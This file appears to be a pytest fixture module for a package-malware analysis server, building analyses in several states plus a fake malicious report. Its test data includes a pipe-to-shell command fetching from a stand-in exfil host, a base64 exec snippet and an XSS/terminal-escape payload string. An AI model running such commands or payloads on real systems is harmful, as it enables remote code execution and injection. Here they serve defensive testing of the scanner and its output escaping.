"""Analyses in every state, and somebody who looks at them."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest
from django.core.cache import cache
from django.test import Client
from packageurl import PackageURL

from packamal.executors.base import Ending, Outcome
from packamal.server.accounts.models import Role, User
from packamal.server.analyses import transitions
from packamal.server.analyses.claims import Asker, Question, claim
from packamal.server.analyses.models import Analysis
from packamal.server.analyses.states import Category, Lane
from packamal.server.pipeline import parts
from packamal.server.pipeline.settle import settle

LIMIT_S = 300
EVIL = "\u202e<script>alert(1)</script>\"'&\x1b[31m https://exfil.example/x"
"""In every field that a package can fill."""
PLACE = {
    "artifact": "pkg-1.0.tar.gz", "path": "pkg-1.0/setup.py", "line": 10, "snippet": 'exec(b64decode("Y3VybA=="))',
    "decoded": "curl https://exfil.example/run.sh | sh", "steps": ["base64"],
}  # fmt: skip
FINDING = {
    "rule": "dropper/fetched-code-runs", "title": "Runs what it fetched", "severity": "critical", "confidence": "high",
    "says": "Fetches https://exfil.example/run.sh and runs it when it is installed.", "role": "install",
    "relation": "flow", "techniques": ["T1105"], "evidence": [PLACE], "suppressed": "",
}  # fmt: skip
SIGNALS = [
    {"id": name, "role": "install", "origin": "static", "evidence": PLACE, "target": target, "reason": "setup.py"}
    for name, target in [
        ("decode.text", ""), ("net.fetch", "https://exfil.example/run.sh"), ("proc.shell", "sh"), ("env.read.all", "")
    ]
]  # fmt: skip


class Maker:
    """Makes rows by the ways they are made in life."""

    evil = EVIL

    def report_on(self, purl: str, level: str = "clean", score: int = 2, **more: object) -> dict[str, object]:
        """A report as the scanner writes it."""
        artifact = {
            "purl": purl,
            "filename": "pkg-1.0.tar.gz",
            "sha256": "a" * 64,
            "size_bytes": 18_400,
            "kind": "sdist",
        }
        return {
            "target": purl, "purl": purl, "verdict": {"level": level, "score": score, "reasons": []},
            "artifacts": [artifact], "findings": [], "signals": [], "flows": [], "errors": [], "notes": [],
            "timings_ms": {"parse": 30, "metadata": 4, "total": 120}, "files": 3, "tool_version": "0.1.0",
            "rules_version": "0123456789ab", "schema_version": "1.0", **more,
        }  # fmt: skip

    def malicious(self, purl: str) -> dict[str, object]:
        """One with findings, proof and signals."""
        reason = {"rule": FINDING["rule"], "points": 46, "text": FINDING["says"]}
        verdict = {"level": "malicious", "score": 97, "reasons": [reason]}
        return self.report_on(purl, verdict=verdict, findings=[FINDING], signals=SIGNALS)

    def queue(self, purl: str, lane: Lane = Lane.INTERACTIVE) -> Analysis:
        """A row that waits."""
        question = Question(purl, PackageURL.from_string(purl), lane=lane)
        return claim(question, Asker()).analysis

    def run(self, purl: str) -> Analysis:
        """A row that runs."""
        row = self.queue(purl)
        assert transitions.start(row.pk, "worker", LIMIT_S)
        row.refresh_from_db()
        return row

    def end(self, purl: str, report: dict[str, object]) -> Analysis:
        """A row that ended with a report."""
        row = self.queue(purl)
        lease = transitions.start(row.pk, "worker", LIMIT_S)
        assert lease
        content = json.dumps({**report, "purl": purl}).encode()
        assert settle(lease, Outcome(Ending.REPORTED, content), parts.store())
        row.refresh_from_db()
        assert row.report_id, row.error
        return row

    def fail(self, purl: str) -> Analysis:
        """A row that failed for good."""
        row = self.run(purl)
        assert transitions.fail(
            row.pk, row.attempt, Category.INTERNAL, f"it broke {EVIL}", "Traceback (most recent call last)"
        )
        row.refresh_from_db()
        return row


@pytest.fixture(autouse=True)
def no_old_counts() -> None:
    cache.clear()


@pytest.fixture
def make(db) -> Maker:
    return Maker()


@pytest.fixture
def several(make) -> Maker:
    """One of each verdict, and one that failed."""
    make.end("pkg:pypi/bad@1.0", make.malicious("pkg:pypi/bad@1.0"))
    make.end("pkg:npm/odd@1.0.0", make.report_on("pkg:npm/odd@1.0.0", "suspicious", 60))
    make.end("pkg:npm/good@1.0.0", make.report_on("pkg:npm/good@1.0.0"))
    make.fail("pkg:npm/broken@1.0.0")
    return make


@pytest.fixture
def as_role(db) -> Callable[[str], Client]:
    """A browser in which somebody of this role is signed in."""

    def sign_in(role: str) -> Client:
        from packamal.server.accounts.local import NAME

        user, _ = User.objects.update_or_create(username=NAME, defaults={"role": Role(role)})
        client = Client()
        client.force_login(user)
        return client

    return sign_in


@pytest.fixture
def browser(as_role) -> Client:
    return as_role("admin")
